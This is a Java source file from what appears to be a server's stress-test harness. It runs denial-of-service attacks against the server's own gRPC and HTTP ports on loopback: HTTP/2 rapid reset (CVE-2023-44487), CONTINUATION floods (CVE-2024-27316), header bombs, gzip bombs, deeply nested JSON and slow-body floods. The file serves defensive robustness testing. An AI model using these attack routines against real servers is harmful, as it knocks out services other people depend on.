package dev.wirebrook.cli.torture;

import com.google.common.base.Splitter;
import dev.wirebrook.grpc.RawHttp2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.GZIPOutputStream;

/**
 * What hostile clients do to both ports of a server, again and again until {@link #end}. Whatever
 * the server does to their connections is fine. Thread-safe.
 */
final class Attacks {
    private static final String DISPATCH = "event.EventService/dispatch";
    private static final byte[] CALL = RawHttp2.headerBlock(DISPATCH);
    private static final byte[] POST = RawHttp2.postBlock("/" + DISPATCH, "application/json");
    private static final byte[] CANCEL = {0, 0, 0, RawHttp2.CANCEL};

    /** Nearly all of the longest body that is read. */
    private static final byte[] BODY = new byte[(4 << 20) - 1_000];

    /** Nearly all that a client may send of one message before it hears more. */
    private static final int WINDOW_BYTES = 1_000_000;

    private static final byte[] DEEP =
            "{\"events\":".concat("[".repeat(4_000_000)).getBytes(StandardCharsets.US_ASCII);

    private final InetSocketAddress grpc;
    private final InetSocketAddress http;
    private final byte[] bomb = gzip(new byte[64 << 20]);
    private final CountDownLatch over = new CountDownLatch(1);

    /**
     * @param name for who reads that it failed
     * @param clients how many do it at once
     */
    record Attack(String name, int clients, Round round, AtomicInteger rounds) {
        Attack(String name, int clients, Round round) {
            this(name, clients, round, new AtomicInteger());
        }
    }

    /** One client's attack. */
    interface Round {
        void run() throws IOException, InterruptedException;
    }

    /**
     * @param grpcAddress host and port
     * @param httpAddress host and port
     */
    Attacks(String grpcAddress, String httpAddress) {
        grpc = address(grpcAddress);
        http = address(httpAddress);
    }

    private static InetSocketAddress address(String hostAndPort) {
        String port = Splitter.on(':').splitToList(hostAndPort).getLast();
        return new InetSocketAddress(InetAddress.getLoopbackAddress(), Integer.parseInt(port));
    }

    /** Slow bodies are more than the heap together, on either port. */
    List<Attack> all() {
        return List.of(
                new Attack("rapid reset of calls", 1, () -> rapidReset(grpc, CALL)),
                new Attack("rapid reset of requests", 1, () -> rapidReset(http, POST)),
                new Attack("metadata bomb", 1, () -> headerBomb(grpc, CALL)),
                new Attack("header bomb", 1, () -> headerBomb(http, POST)),
                new Attack("head without end", 1, this::headWithoutEnd),
                new Attack("gzip bomb as message", 4, this::messageBomb),
                new Attack("gzip bomb as body", 4, () -> post(bomb, "Content-Encoding: gzip\r\n")),
                new Attack("deep JSON", 2, () -> post(DEEP, "")),
                new Attack("slow message", 200, this::slowMessage),
                new Attack("slow body", 50, this::slowBody));
    }

    /** Attacks until the end; the count of rounds says whether it came to anything. */
    void run(Attack attack) {
        while (!isOver()) {
            try {
                attack.round().run();
            } catch (IOException e) {
                // The server has had enough.
            } catch (InterruptedException e) {
                return;
            }
            attack.rounds().incrementAndGet();
        }
    }

    void end() {
        over.countDown();
    }

    private boolean isOver() {
        return over.getCount() == 0;
    }

    private static byte[] gzip(byte[] plain) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream zipped = new GZIPOutputStream(bytes)) {
            zipped.write(plain);
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return bytes.toByteArray();
    }

    /** CVE-2023-44487. */
    private void rapidReset(InetSocketAddress address, byte[] block) throws IOException {
        try (RawHttp2 client = new RawHttp2(address).handshake()) {
            for (int stream = 1; stream < 20_000 && !isOver(); stream += 2) {
                client.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, stream, block);
                client.frame(RawHttp2.RST_STREAM, 0, stream, CANCEL);
            }
        }
    }

    /** A header of 4 kB that stands in the table once, and in the head ten thousand times. */
    private static void headerBomb(InetSocketAddress address, byte[] block) throws IOException {
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        bomb.writeBytes(block);
        RawHttp2.indexed(bomb, "x-bomb", "y".repeat(4_000));
        for (int i = 0; i < 10_000; i++) {
            bomb.write(0x80 | 62);
        }
        try (RawHttp2 client = new RawHttp2(address).handshake()) {
            client.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, 1, bomb.toByteArray());
            client.closedByServer();
        }
    }

    /** CVE-2024-27316. */
    private void headWithoutEnd() throws IOException {
        ByteArrayOutputStream more = new ByteArrayOutputStream();
        RawHttp2.literal(more, "x-more", "y".repeat(10_000));
        for (InetSocketAddress address : List.of(grpc, http)) {
            try (RawHttp2 client = new RawHttp2(address).handshake()) {
                client.frame(RawHttp2.HEADERS, 0, 1, address.equals(grpc) ? CALL : POST);
                for (int i = 0; i < 10_000 && !isOver(); i++) {
                    client.frame(RawHttp2.CONTINUATION, 0, 1, more.toByteArray());
                }
            } catch (IOException e) {
                // The other port has its turn.
            }
        }
    }

    private void messageBomb() throws IOException {
        try (RawHttp2 client = new RawHttp2(grpc).handshake()) {
            client.headers(1, DISPATCH, "grpc-encoding", "gzip");
            ByteBuffer framed = ByteBuffer.allocate(5 + bomb.length);
            framed.put((byte) 1).putInt(bomb.length).put(bomb);
            client.data(1, framed.array(), true);
            client.next(frame -> frame.stream() > 0 && (frame.flags() & RawHttp2.END_STREAM) != 0);
        }
    }

    /** One that asks for the answer, and waits for it. */
    private void post(byte[] body, String header) throws IOException {
        try (Socket socket = connect()) {
            begin(socket, "Connection: close\r\n" + header, body.length).write(body);
            socket.getInputStream().readAllBytes();
        }
    }

    /** Nearly all of a message at once, and then a byte now and then. */
    private void slowMessage() throws IOException, InterruptedException {
        try (RawHttp2 client = new RawHttp2(grpc).handshake()) {
            client.headers(1, DISPATCH);
            client.data(1, RawHttp2.message(4 << 20, WINDOW_BYTES), false);
            while (!over.await(100, TimeUnit.MILLISECONDS)) {
                client.data(1, new byte[1], false);
            }
        }
    }

    private void slowBody() throws IOException, InterruptedException {
        try (Socket socket = connect()) {
            OutputStream out = begin(socket, "", 4 << 20);
            out.write(BODY);
            while (!over.await(100, TimeUnit.MILLISECONDS)) {
                out.write(0);
            }
        }
    }

    private Socket connect() throws IOException {
        Socket socket = new Socket(http.getAddress(), http.getPort());
        socket.setSoTimeout(10_000);
        return socket;
    }

    private static OutputStream begin(Socket socket, String headers, int length)
            throws IOException {
        OutputStream out = socket.getOutputStream();
        out.write(
                "POST /v1/events HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n%sContent-Length: %d\r\n\r\n"
                        .formatted(headers, length)
                        .getBytes(StandardCharsets.US_ASCII));
        return out;
    }
}
